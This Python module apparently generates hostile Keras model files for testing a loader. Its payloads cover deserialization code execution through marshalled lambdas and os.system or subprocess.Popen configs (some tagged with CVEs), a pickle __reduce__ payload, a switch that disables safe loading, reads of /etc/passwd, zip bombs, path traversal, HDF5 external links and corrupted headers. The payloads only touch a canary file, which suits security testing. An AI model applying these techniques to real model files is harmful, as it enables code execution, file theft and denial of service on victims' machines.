"""Hostile Keras files: each function writes one that would write a canary, fill the memory, hang, or mislead.

`HOSTILE` is the list of them by name: each takes a folder and the canary. `harmless` writes the same network as it should
be. Run as a program on a folder and a canary, it reads all of them and prints the seconds and megabytes it took.
"""

import base64
import copy
import io
import json
import marshal
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Json = dict[str, Any]
Weights = dict[str, np.ndarray[Any, Any]]
CONFIG, METADATA, WEIGHTS = "config.json", "metadata.json", "model.weights.h5"


# --- the network that all these files pretend to hold ---


def layer(kind: str, **config: Any) -> Json:
    config = {"name": kind.lower(), **config}
    return {"module": "keras.layers", "class_name": kind, "config": config, "registered_name": None}


INPUT = layer("InputLayer", batch_shape=[None, 8, 8, 3], dtype="float32", name="images")
CONV = layer("Conv2D", filters=2, kernel_size=[3, 3], activation="relu", name="conv")
FLATTEN, DENSE = layer("Flatten"), layer("Dense", units=4)


def model(*layers: Json) -> Json:
    config = {"name": "small", "layers": [INPUT, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": "Sequential"}


def small() -> Json:
    return copy.deepcopy(model(CONV, FLATTEN, DENSE))


def numbers() -> Weights:
    draw = np.random.default_rng(0)
    shapes = {"conv2d/vars/0": (3, 3, 3, 2), "conv2d/vars/1": (2,), "dense/vars/0": (72, 4), "dense/vars/1": (4,)}
    return {f"layers/{name}": draw.normal(size=shape).astype(np.float32) for name, shape in shapes.items()}


def hdf5(fill: Callable[[h5py.File], None]) -> bytes:
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        fill(file)
    return content.getvalue()


def weights(**changed: Any) -> bytes:
    """The weights, with those changed whose names are given (`conv2d_0` stands for `layers/conv2d/vars/0`)."""
    values = numbers()
    for name, value in changed.items():
        values["layers/{}/vars/{}".format(*name.rsplit("_", 1))] = value

    def fill(file: h5py.File) -> None:
        for name, value in values.items():
            file[name] = value

    return hdf5(fill)


def changed_weights(change: Callable[[h5py.File], None]) -> bytes:
    """The weights, after something was done to the file; it may be stored at a name that was freed."""

    def fill(file: h5py.File) -> None:
        for name, value in numbers().items():
            file[name] = value
        change(file)

    return hdf5(fill)


def zipped(path: Path, config: Any = None, content: bytes | None = None, extra: dict[str, bytes] | None = None) -> Path:
    text = config if isinstance(config, str) else json.dumps(config or small())
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(METADATA, json.dumps({"keras_version": "3.9.0", "date_saved": "2025-01-01@00:00:00"}))
        archive.writestr(CONFIG, text)
        archive.writestr(WEIGHTS, weights() if content is None else content)
        for name, value in (extra or {}).items():
            archive.writestr(name, value)
    return path


def old(path: Path, config: Any = None, change: Callable[[h5py.File], None] | None = None) -> Path:
    """The network as Keras 2 wrote it."""
    config = config or old_model()

    def fill(file: h5py.File) -> None:
        file.attrs["model_config"] = config if isinstance(config, str) else json.dumps(config)
        file.attrs["keras_version"] = b"2.11.0"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"conv", b"flatten", b"dense"])
        group.create_group("flatten").attrs["weight_names"] = np.array([])
        values = list(numbers().values())
        for name, kernel, bias in (("conv", *values[:2]), ("dense", *values[2:])):
            names = [f"{name}/kernel:0", f"{name}/bias:0"]
            group.create_group(name).attrs["weight_names"] = np.array([each.encode() for each in names])
            group[name][names[0]], group[name][names[1]] = kernel, bias
        if change is not None:
            change(file)

    path.write_bytes(hdf5(fill))
    return path


def old_model(*layers: Json) -> Json:
    entries = copy.deepcopy([CONV, FLATTEN, DENSE, *layers])
    for entry in entries:
        del entry["module"], entry["registered_name"]
    entries[0]["config"]["batch_input_shape"] = [None, 8, 8, 3]
    return {"class_name": "Sequential", "config": {"name": "small", "layers": entries}}


def harmless(folder: Path) -> tuple[Path, Path]:
    """The network as it should be, in both formats."""
    return zipped(folder / "harmless.keras"), old(folder / "harmless.h5")


# --- code ---


def code(canary: Path) -> str:
    """A function that writes the canary when it is called, as Keras writes functions into files."""
    source = f"def act(x, path={str(canary)!r}):\n    open(path, 'w').write('alive')\n    return x\n"
    function = next(const for const in compile(source, "layer", "exec").co_consts if hasattr(const, "co_code"))
    return base64.b64encode(marshal.dumps(function)).decode()


def marshalled(canary: Path) -> Json:
    return {"class_name": "__lambda__", "config": {"code": code(canary), "defaults": [str(canary)], "closure": None}}


def function(module: str, name: str) -> Json:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_keras(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(CONV, layer("Lambda", function=marshalled(canary)), FLATTEN, DENSE))


def lambda_h5(folder: Path, canary: Path) -> Path:
    old_lambda = layer("Lambda", function=[code(canary), [str(canary)], None], function_type="lambda", arguments={})
    return old(folder / "m.h5", old_model(old_lambda))


def lambda_within_a_model(folder: Path, canary: Path) -> Path:
    inner = model(layer("Lambda", function=marshalled(canary)))
    return zipped(folder / "m.keras", model(inner, CONV, FLATTEN, DENSE))


def lambda_of_a_command(folder: Path, canary: Path) -> Path:  # CVE-2025-1550
    command = {"command": f"touch {canary}"}
    return zipped(folder / "m.keras", model(layer("Lambda", function=function("os", "system"), arguments=command)))


def lambda_of_keras_own_tools(folder: Path, canary: Path) -> Path:  # CVE-2025-8747
    (folder / "origin").write_text("alive")
    copying = {"origin": (folder / "origin").as_uri(), "fname": str(canary), "extract": False}
    tool = layer("Lambda", function=function("keras.utils", "get_file"), arguments=copying)
    return zipped(folder / "m.keras", model(tool, CONV, FLATTEN, DENSE))


def command_as_a_layer(folder: Path, canary: Path) -> Path:
    config = small()
    config["config"]["layers"].append(function("os", "system") | {"inbound_nodes": [{"args": [f"touch {canary}"]}]})
    return zipped(folder / "m.keras", config)


def command_as_the_model(folder: Path, canary: Path) -> Path:
    config = {"module": "subprocess", "class_name": "Popen", "config": {"args": f"touch {canary}", "shell": True}}
    return zipped(folder / "m.keras", config | {"registered_name": "Popen"})


def command_as_an_initializer(folder: Path, canary: Path) -> Path:
    evil = {"module": "builtins", "class_name": "exec", "config": {"source": f"open({str(canary)!r}, 'w')"}}
    return zipped(folder / "m.keras", model(CONV, FLATTEN, layer("Dense", units=4, kernel_initializer=evil)))


def code_as_an_activation(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(CONV, FLATTEN, layer("Dense", units=4, activation=marshalled(canary))))


def code_as_an_argument(folder: Path, canary: Path) -> Path:
    config = small()
    config["config"]["layers"][1]["config"]["padding"] = marshalled(canary)
    return zipped(folder / "m.keras", config)


def called_with(path: Path, *arguments: Any, **named: Any) -> Path:
    """A network whose convolution is called with more than images."""
    tensor = {"class_name": "__keras_tensor__", "config": {"shape": [None], "keras_history": ["images", 0, 0]}}
    node = {"args": [tensor, *arguments], "kwargs": named}
    layers = [INPUT | {"name": "images", "inbound_nodes": []}, CONV | {"name": "conv", "inbound_nodes": [node]}]
    ends = {"input_layers": ["images", 0, 0], "output_layers": ["conv", 0, 0]}
    config = {"name": "small", "layers": layers, **ends}
    return zipped(path, {"module": "keras.src.models.functional", "class_name": "Functional", "config": config})


def code_in_a_call(folder: Path, canary: Path) -> Path:
    return called_with(folder / "m.keras", marshalled(canary))


def code_in_a_named_argument(folder: Path, canary: Path) -> Path:
    return called_with(folder / "m.keras", factor=marshalled(canary))


def arguments_that_are_a_function(folder: Path, canary: Path) -> Path:
    """Keras takes a whole set of arguments by name for something to look up, if they are called like that."""
    return called_with(folder / "m.keras", **function("keras.config", "enable_unsafe_deserialization"))


def arguments_that_are_a_class(folder: Path, canary: Path) -> Path:
    return called_with(folder / "m.keras", class_name="Lambda", module="keras.layers", config=None)


def code_in_a_shape(folder: Path, canary: Path) -> Path:
    config = small()
    config["config"]["layers"].pop(0)
    config["build_config"] = {"input_shape": [None, marshalled(canary), 8, 3]}
    return zipped(folder / "m.keras", config)


def safety_switched_off(folder: Path, canary: Path) -> Path:  # CVE-2025-9906
    switch = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
    lambdas = layer("Lambda", function=marshalled(canary))
    return zipped(folder / "m.keras", model(switch | {"registered_name": None}, lambdas, CONV, FLATTEN, DENSE))


def safety_switched_off_in_h5(folder: Path, canary: Path) -> Path:
    config = old_model(layer("Lambda", function=marshalled(canary)))
    config["config"]["layers"].insert(0, function("keras.config", "enable_unsafe_deserialization"))
    return old(folder / "m.h5", config)


def words_from_a_file(folder: Path, canary: Path) -> Path:  # CVE-2025-12058
    (folder / "secret").write_text("secret")
    lookup = layer("StringLookup", vocabulary=str(folder / "secret"))
    return zipped(folder / "m.keras", model(lookup, CONV, FLATTEN, DENSE))


def words_from_a_file_in_h5(folder: Path, canary: Path) -> Path:
    return old(folder / "m.h5", old_model(layer("TextVectorization", vocabulary="/etc/passwd")))


def pickled_module(folder: Path, canary: Path) -> Path:
    import torch

    class Reduced:
        def __reduce__(self) -> Any:
            return open, (str(canary), "w")

    content = io.BytesIO()
    torch.save(Reduced(), content)
    pickled = base64.b64encode(content.getvalue()).decode()
    wrapper = layer("TorchModuleWrapper", module={"class_name": "__bytes__", "config": {"value": pickled}})
    return zipped(folder / "m.keras", model(wrapper, CONV, FLATTEN, DENSE))


def saved_model_of_tensorflow(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(layer("TFSMLayer", filepath=str(folder)), CONV, FLATTEN, DENSE))


def layer_of_its_own(folder: Path, canary: Path) -> Path:
    own = layer("Conv2D", filters=2) | {"module": "package.layers", "registered_name": "package>Conv2D"}
    return zipped(folder / "m.keras", model(own, FLATTEN, DENSE))


def layer_registered_as_another(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(CONV | {"registered_name": "package>Conv2D"}, FLATTEN, DENSE))


def model_of_its_own(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", small() | {"module": None, "class_name": "Net", "registered_name": "Custom>Net"})


# --- archives ---


def bomb_of_weights(folder: Path, canary: Path) -> Path:
    with zipfile.ZipFile(folder / "m.keras", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(CONFIG, json.dumps(small()))
        with archive.open(WEIGHTS, "w") as member:
            for _ in range(100):
                member.write(bytes(2**20))
    return folder / "m.keras"


def bomb_of_configuration(folder: Path, canary: Path) -> Path:
    with zipfile.ZipFile(folder / "m.keras", "w", zipfile.ZIP_DEFLATED) as archive, archive.open(CONFIG, "w") as member:
        for _ in range(128):
            member.write(b" " * 2**20)
    return folder / "m.keras"


def compressed_weights(folder: Path, canary: Path) -> Path:
    path = zipped(folder / "m.keras")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(folder / "c.keras", "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return folder / "c.keras"


def path_out_of_the_archive(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", extra={f"../{canary.name}": b"alive"})


def absolute_path(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", extra={str(canary): b"alive"})


def link_in_the_archive(folder: Path, canary: Path) -> Path:
    path = zipped(folder / "m.keras")
    link = zipfile.ZipInfo("assets")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, str(canary.parent))
    return path


def two_configurations(folder: Path, canary: Path) -> Path:
    path = zipped(folder / "m.keras")
    evil = model(layer("Lambda", function=marshalled(canary)))
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the second one
        archive.writestr(CONFIG, json.dumps(evil))
    return path


def assets(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", extra={"assets/layers/lookup/vocabulary.txt": b"words"})


def truncated_archive(folder: Path, canary: Path) -> Path:
    path = zipped(folder / "m.keras")
    path.write_bytes(path.read_bytes()[:-200])
    return path


def flipped_archive(folder: Path, canary: Path) -> Path:
    content = bytearray(zipped(folder / "m.keras").read_bytes())
    content[content.index(b"\x89HDF") + 3000] ^= 1
    (folder / "m.keras").write_bytes(content)
    return folder / "m.keras"


def without_weights(folder: Path, canary: Path) -> Path:
    with zipfile.ZipFile(folder / "m.keras", "w") as archive:
        archive.writestr(CONFIG, json.dumps(small()))
    return folder / "m.keras"


# --- configurations ---


def nested_lists(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", "[" * 100_000)


def nested_references(folder: Path, canary: Path) -> Path:
    config = {"name": "m", "layers": [], "output_layers": json.loads("[" * 400 + "]" * 400), "input_layers": []}
    return zipped(folder / "m.keras", {"class_name": "Functional", "config": config})


def name_twice(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", json.dumps(small())[:-1] + ', "class_name": "Lambda"}')


def models_in_models(folder: Path, canary: Path) -> Path:
    config = small()
    for _ in range(50):
        config = model(config)
    return zipped(folder / "m.keras", config)


def calls_without_number(folder: Path, canary: Path) -> Path:
    """Each model runs the one within it ten times: seven of them run the innermost ten million times."""
    config = model(layer("ReLU"))
    for depth in range(7):
        nodes = [{"args": [], "kwargs": {}}] * 10
        inner = config | {"name": "inner", "inbound_nodes": nodes}
        ends = {"input_layers": ["images", 0, 0], "output_layers": ["inner", 0, 0]}
        config = {"class_name": "Functional", "config": {"name": f"m{depth}", "layers": [inner], **ends}}
    return zipped(folder / "m.keras", config)


def layers_without_number(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(*[layer("ReLU", name=f"r{number}") for number in range(20_000)]))


def layers_in_a_circle(folder: Path, canary: Path) -> Path:
    """Each of two layers takes what the other gives."""

    def entry(name: str, source: str) -> Json:
        tensor = {"class_name": "__keras_tensor__", "config": {"shape": [None], "keras_history": [source, 0, 0]}}
        return layer("ReLU", name=name) | {"name": name, "inbound_nodes": [{"args": [tensor], "kwargs": {}}]}

    layers = [INPUT | {"name": "images", "inbound_nodes": []}, entry("first", "second"), entry("second", "first")]
    ends = {"input_layers": ["images", 0, 0], "output_layers": ["second", 0, 0]}
    config = {"name": "small", "layers": layers, **ends}
    model_in_a_circle = {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}
    return zipped(folder / "m.keras", model_in_a_circle)


def number_of_many_digits(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", json.dumps(small()).replace('"units": 4', f'"units": {"9" * 1_000_000}'))


def configuration_of_millions_of_parts(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", "[" + "{}," * 2_700_000 + "{}]")


def huge_layer(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(CONV, FLATTEN, layer("Dense", units=900_000)))


def huge_layer_in_h5(folder: Path, canary: Path) -> Path:
    config = old_model()
    config["config"]["layers"][2]["config"]["units"] = 900_000
    return old(folder / "m.h5", config)


def huge_number(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(CONV, FLATTEN, layer("Dense", units=10**12)))


def huge_layer_in_itself(folder: Path, canary: Path) -> Path:
    """Layers that are small in the file but have Keras make room before it looks at the weights."""
    grown = layer("UpSampling2D", size=[60, 60])
    return zipped(folder / "m.keras", model(grown, FLATTEN, layer("Normalization", axis=-1), DENSE))


def huge_values(folder: Path, canary: Path) -> Path:
    grown = [layer("UpSampling2D", size=[500, 500], name=name) for name in ("up", "up_again")]
    return zipped(folder / "m.keras", model(CONV, *grown, layer("GlobalMaxPooling2D"), DENSE))


def huge_input(folder: Path, canary: Path) -> Path:
    config = small()
    config["config"]["layers"][0]["config"]["batch_shape"] = [None, 10**6, 10**6, 3]
    return zipped(folder / "m.keras", config)


def missing_layer(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", model(CONV, FLATTEN, DENSE, layer("Dense", units=2, name="second")))


# --- HDF5 ---


def weights_without_network(folder: Path, canary: Path) -> Path:
    (folder / "m.weights.h5").write_bytes(weights())
    return folder / "m.weights.h5"


def external_link(folder: Path, canary: Path) -> Path:
    (folder / "other.h5").write_bytes(weights())

    def link(file: h5py.File) -> None:
        del file["layers/dense"]
        file["layers/dense"] = h5py.ExternalLink(str(folder / "other.h5"), "/layers/dense")

    return zipped(folder / "m.keras", content=changed_weights(link))


def external_link_in_h5(folder: Path, canary: Path) -> Path:
    (folder / "other.h5").write_bytes(weights())

    def link(file: h5py.File) -> None:
        file["model_weights/extra"] = h5py.ExternalLink(str(folder / "other.h5"), "/layers")

    return old(folder / "m.h5", change=link)


def soft_link(folder: Path, canary: Path) -> Path:
    def link(file: h5py.File) -> None:
        file["layers/more"] = h5py.SoftLink("/layers/dense")

    return zipped(folder / "m.keras", content=changed_weights(link))


def group_in_itself(folder: Path, canary: Path) -> Path:
    def link(file: h5py.File) -> None:
        file["layers/dense/again"] = file["layers"]

    return zipped(folder / "m.keras", content=changed_weights(link))


def numbers_in_another_file(folder: Path, canary: Path) -> Path:
    (folder / "secret").write_bytes(b"secret" * 200)

    def fill(file: h5py.File) -> None:
        del file["layers/dense/vars/1"]
        place = [(str(folder / "secret"), 0, h5py.h5f.UNLIMITED)]
        file.create_dataset("layers/dense/vars/1", (4,), np.float32, external=place)

    return zipped(folder / "m.keras", content=changed_weights(fill))


def numbers_of_several_files(folder: Path, canary: Path) -> Path:
    (folder / "other.h5").write_bytes(weights())

    def fill(file: h5py.File) -> None:
        del file["layers/dense/vars/1"]
        layout = h5py.VirtualLayout((4,), np.float32)
        layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "/layers/dense/vars/1", shape=(4,))
        file.create_virtual_dataset("layers/dense/vars/1", layout)

    return zipped(folder / "m.keras", content=changed_weights(fill))


def huge_shape(folder: Path, canary: Path) -> Path:
    def fill(file: h5py.File) -> None:
        del file["layers/dense/vars/0"]
        file.create_dataset("layers/dense/vars/0", (1_000_000, 1_000_000), np.float32)

    return zipped(folder / "m.keras", content=changed_weights(fill))


def huge_shape_in_pieces(folder: Path, canary: Path) -> Path:
    def fill(file: h5py.File) -> None:
        file.create_dataset(
            "model_weights/dense/more", (100_000, 100_000), np.float32, chunks=(1000, 1000), compression="gzip"
        )

    return old(folder / "m.h5", change=fill)


def unknown_filter(folder: Path, canary: Path) -> Path:
    def fill(file: h5py.File) -> None:
        properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        properties.set_chunk((4,))
        properties.set_filter(32_000, h5py.h5z.FLAG_OPTIONAL)  # LZF; one it does not know is loaded from a library
        space = h5py.h5s.create_simple((4,))
        h5py.h5d.create(file["layers/dense"].id, b"more", h5py.h5t.IEEE_F32LE, space, properties)

    return zipped(folder / "m.keras", content=changed_weights(fill))


def text_for_numbers(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", content=weights(dense_1=np.array([b"a", b"b", b"c", b"d"])))


def huge_attribute(folder: Path, canary: Path) -> Path:
    def fill(file: h5py.File) -> None:
        h5py.h5a.create(file.id, b"more", h5py.h5t.IEEE_F64LE, h5py.h5s.create_simple((4000,)))

    path = old(folder / "m.h5", change=fill)
    content = bytearray(path.read_bytes())
    place = content.index(struct.pack("<Q", 4000), content.index(b"more\0"))
    content[place : place + 8] = struct.pack("<Q", 2**40)
    path.write_bytes(content)
    return path


def shared_text(folder: Path, canary: Path) -> Path:
    """An attribute of three thousand words, all of which are the same sixty kilobytes."""

    def fill(file: h5py.File) -> None:
        words = np.array(["z" * 60_000] + ["q"] * 2999, dtype=object)
        file.create_group("more").attrs.create("words", words, dtype=h5py.string_dtype())

    path = old(folder / "m.h5", change=fill)
    content = bytearray(path.read_bytes())
    length, after = struct.pack("<I", 60_000), struct.pack("<I", 1)  # a word is its length and where its letters are
    place = content.index(length)
    while content[place + 16 : place + 20] != after:
        place = content.index(length, place + 1)
    content[place : place + 3000 * 16] = content[place : place + 16] * 3000
    path.write_bytes(content)
    return path


def not_a_number(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", content=weights(dense_1=np.array([0, 0, np.nan, 0], np.float32)))


def infinite_number_in_h5(folder: Path, canary: Path) -> Path:
    def fill(file: h5py.File) -> None:
        file["model_weights/dense/dense/bias:0"][2] = np.inf

    return old(folder / "m.h5", change=fill)


def number_beyond_32_bits(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", content=weights(dense_1=np.array([0, 0, 1e300, 0], np.float64)))


def wrong_shape(folder: Path, canary: Path) -> Path:
    return zipped(folder / "m.keras", content=weights(dense_0=np.zeros((71, 4), np.float32)))


def truncated_hdf5(folder: Path, canary: Path) -> Path:
    path = old(folder / "m.h5")
    path.write_bytes(path.read_bytes()[:-2000])
    return path


def flipped_hdf5(folder: Path, canary: Path) -> Path:
    content = bytearray(old(folder / "m.h5").read_bytes())
    content[content.index(b"TREE") + 2] ^= 1
    (folder / "m.h5").write_bytes(content)
    return folder / "m.h5"


def endless_hdf5(folder: Path, canary: Path) -> Path:
    """The size of a text is such that what follows it is itself: the HDF5 library goes round in circles."""
    content = bytearray(old(folder / "m.h5").read_bytes())
    struct.pack_into("<Q", content, content.index(b"GCOL") + 24, 2**64 - 16)
    (folder / "m.h5").write_bytes(content)
    return folder / "m.h5"


def something_else(folder: Path, canary: Path) -> Path:
    (folder / "m.keras").write_bytes(b"\x80\x04cposix\nsystem\n")
    return folder / "m.keras"


Generator = Callable[[Path, Path], Path]


def named(*functions: Generator) -> dict[str, Generator]:
    return {function.__name__.replace("_", " "): function for function in functions}


IDEAS: dict[str, dict[str, Generator]] = {
    "functions in layers, which Keras would unmarshal and run": named(
        lambda_keras,
        lambda_h5,
        lambda_within_a_model,
        code_as_an_activation,
        code_as_an_argument,
        code_in_a_call,
        code_in_a_named_argument,
        code_in_a_shape,
    ),
    "names that Keras would look up and call": named(
        command_as_a_layer,
        lambda_of_a_command,
        lambda_of_keras_own_tools,
        command_as_the_model,
        command_as_an_initializer,
        arguments_that_are_a_function,
        arguments_that_are_a_class,
    ),
    "switches that would turn off the safety of Keras": named(
        safety_switched_off,
        safety_switched_off_in_h5,
    ),
    "layers and models of the author's own": named(
        layer_of_its_own,
        layer_registered_as_another,
        model_of_its_own,
    ),
    "layers that read other files, or unpickle": named(
        words_from_a_file,
        words_from_a_file_in_h5,
        pickled_module,
        saved_model_of_tensorflow,
    ),
    "zip bombs": named(
        bomb_of_weights,
        bomb_of_configuration,
        compressed_weights,
    ),
    "members that lead out of the archive, or belong to no model": named(
        path_out_of_the_archive,
        absolute_path,
        link_in_the_archive,
        assets,
    ),
    "archives that two readers see differently": named(
        two_configurations,
        name_twice,
    ),
    "configurations that would never end, or fill the memory": named(
        calls_without_number,
        models_in_models,
        layers_without_number,
        nested_lists,
        nested_references,
        layers_in_a_circle,
        number_of_many_digits,
        configuration_of_millions_of_parts,
    ),
    "layers that claim more than there are weights for": named(
        huge_layer,
        huge_layer_in_h5,
        huge_number,
        huge_layer_in_itself,
        huge_values,
        huge_input,
        missing_layer,
    ),
    "no network, or no weights": named(
        weights_without_network,
        without_weights,
        something_else,
    ),
    "links and arrays that lead to other files": named(
        external_link,
        external_link_in_h5,
        soft_link,
        group_in_itself,
        numbers_in_another_file,
        numbers_of_several_files,
    ),
    "arrays and attributes that claim more than there is": named(
        huge_shape,
        huge_shape_in_pieces,
        huge_attribute,
        shared_text,
        wrong_shape,
    ),
    "arrays that need more than plain reading": named(
        unknown_filter,
        text_for_numbers,
    ),
    "weights that are no numbers": named(
        not_a_number,
        infinite_number_in_h5,
        number_beyond_32_bits,
    ),
    "damage, some of which makes the HDF5 library hang or crash": named(
        truncated_hdf5,
        truncated_archive,
        flipped_archive,
        flipped_hdf5,
        endless_hdf5,
    ),
}
HOSTILE: dict[str, Generator] = {name: write for files in IDEAS.values() for name, write in files.items()}
